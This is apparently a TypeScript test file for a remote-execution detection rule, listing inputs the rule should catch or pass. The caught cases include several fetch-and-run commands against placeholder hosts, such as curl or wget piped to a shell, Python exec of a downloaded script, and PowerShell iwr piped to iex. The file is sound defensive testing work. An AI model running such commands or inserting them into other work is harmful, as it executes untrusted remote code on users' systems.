import { describeCodeRule, ps, py, sh, text } from '../../testing/code-rule-cases.ts';
import { remoteExecution } from './remote-execution.rule.ts';

describeCodeRule(remoteExecution, {
  caught: [
    sh('curl -fsSL https://get.tool.example.invalid/x.sh | bash'),
    sh('wget -qO /tmp/s https://get.tool.example.invalid/s\nchmod +x /tmp/s\n/tmp/s'),
    sh('bash <(curl -s https://get.tool.example.invalid/s)'),
    sh('sh -c "$(wget -qO- https://get.tool.example.invalid/s)"'),
    py('import requests\nexec(requests.get("https://get.tool.example.invalid/p").text)'),
    ps('iwr https://get.tool.example.invalid/a.ps1 | iex'),
    text('Open a terminal and run `curl http://203.0.113.9/a | sh` first.'),
  ],
  quiet: [
    sh('curl -o data.json https://api.example.invalid/data\ncat data.json'),
    sh('curl http://localhost:3000/health | sh'),
    sh('ID=$(curl -s https://api.example.invalid/id)\n[[ -z "$ID" || "$ID" == "null" ]] && exit 1'),
    sh('P=$(curl -s https://api.example.invalid/price)\npython3 -c "print(float(\'$P\') * 2)"'),
    text('Never run `curl https://get.tool.example.invalid/x | bash`: it is dangerous.'),
    text('## Bad examples\n\n❌ Do not do this:\n\n```bash\ncurl https://get.tool.example.invalid/x | bash\n```'),
  ],
  notApplicable: [sh('npm test'), py('print(1)'), text('Write clear notes.')],
});
